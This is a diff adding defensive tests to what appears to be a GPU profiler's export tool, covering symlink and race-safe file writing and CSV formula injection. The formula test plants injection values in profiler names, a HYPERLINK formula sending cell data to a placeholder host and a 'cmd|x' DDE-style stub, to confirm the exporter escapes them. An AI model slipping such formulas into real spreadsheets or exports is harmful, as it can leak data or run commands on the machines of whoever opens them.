@@ -671,6 +671,39 @@ def what_is_read_is_not_written():
     export("mine.gpuctr", "--to", "csv", "-f", "-o", "other.gpuctr")
 
 
+def a_link_chooses_nothing():
+    """Who put a link where we write has not chosen what -f replaces; a link to a pipe or a device is followed."""
+    pathlib.Path("victim").write_text("precious")
+    os.symlink("victim", "to-file")
+    os.symlink("nowhere", "to-nowhere")
+    os.symlink("/dev/stdout", "to-stdout")
+    for name in "to-file", "to-nowhere":
+        for force in [], ["-f"]:
+            export("run.gpuctr", "--to", "csv", *force, "-o", name, status=2, says=b"this is a link")
+    check(pathlib.Path("victim").read_text() == "precious" and not os.path.exists("nowhere"), "a link was followed")
+    check(os.path.islink("to-file") and os.path.islink("to-nowhere"), "a link was replaced")
+    check(len(export("run.gpuctr", "--to", "csv", "-o", "to-stdout")) > 1000, "a link to a pipe was not followed")
+    check(not [n for n in os.listdir(".") if n.startswith("to-") and "." in n], "a temporary file is left")
+
+
+def a_file_that_comes_meanwhile_stays():
+    """It was not there when we began, and -f was not given."""
+    for force in [], ["-f"]:
+        late = pathlib.Path("late.csv")
+        late.unlink(missing_ok=True)
+        with subprocess.Popen([CLIENT, "export", "-", "--to", "csv", *force, "-o", late], stdin=subprocess.PIPE,
+                              stderr=subprocess.PIPE) as p:
+            while not [n for n in os.listdir(".") if n.startswith("late.csv.")]:
+                check(p.poll() is None, "no temporary file")
+            late.write_text("precious")
+            _, err = p.communicate(pathlib.Path("run.gpuctr").read_bytes(), timeout=100)
+        if force:
+            check(p.returncode == 0 and late.stat().st_size > 1000, f"with -f: {p.returncode} {err!r}")
+        else:
+            check(p.returncode == 1 and late.read_text() == "precious", f"replaced: {p.returncode} {err!r}")
+        check(sorted(n for n in os.listdir(".") if n.startswith("late.csv")) == ["late.csv"], f"left: {os.listdir()}")
+
+
 def a_stack_as_deep_as_the_file():
     """A million ranges within each other, which no program has: whatever reads them ends, and says what it says."""
     depth = 1_000_000
@@ -688,6 +721,19 @@ def a_stack_as_deep_as_the_file():
         export(path, "--to", form)
     r = subprocess.run([CLIENT, "report", path, "--by", "nvtx"], capture_output=True, timeout=100, check=False)
     check(r.returncode == 0 and b"r" in r.stdout, f"report of a deep stack: {r.returncode} {r.stderr!r}")
+
+
+def formulas_are_text():
+    """A spreadsheet computes what begins like a formula, and programs choose the names."""
+    first = "=+-@"
+    path = change("formulas.gpuctr",
+                  ("UPDATE kernel SET name = substr(?, id % 4 + 1, 1) || 'HYPERLINK(\"http://x\"&A1)', mangled = '@x'", (first,)),
+                  ("UPDATE range SET message = substr(?, id % 4 + 1, 1) || 'cmd|x', domain = ''", (first,)))
+    for arguments in ["--to", "csv"], ["--to", "pyprof", "--csv", "-c", "kernel,op,layer,params,tc,seq"]:
+        rows = list(csv.reader(export(path, *arguments).decode().splitlines()))
+        fields = [f for row in rows for f in row]
+        check(not [f for f in fields if len(f) > 1 and f[0] in first + "\t\r"], f"{arguments}: a formula")
+        check(sum(f.startswith("'=HYPERLINK") for f in fields) > 0, f"{arguments}: names are gone")
 
 
 def nobody_reads():
@@ -728,7 +774,8 @@ def commands_of_the_docs():
 def main():
     tests = [commands_of_the_docs, the_recording, worse_captures, wild_values, hostile_names, several_processes, perfetto_is_the_capture,
              protoc_reads_it, perfetto_of_worse_captures, names_of_perfetto_are_bounded, folded_sums,
-             lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, what_is_read_is_not_written, a_stack_as_deep_as_the_file, nobody_reads]
+             lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, formulas_are_text, what_is_read_is_not_written, a_link_chooses_nothing, a_file_that_comes_meanwhile_stays,
+             a_stack_as_deep_as_the_file, nobody_reads]
     return run_tests(tests, RECORDING)
 
 
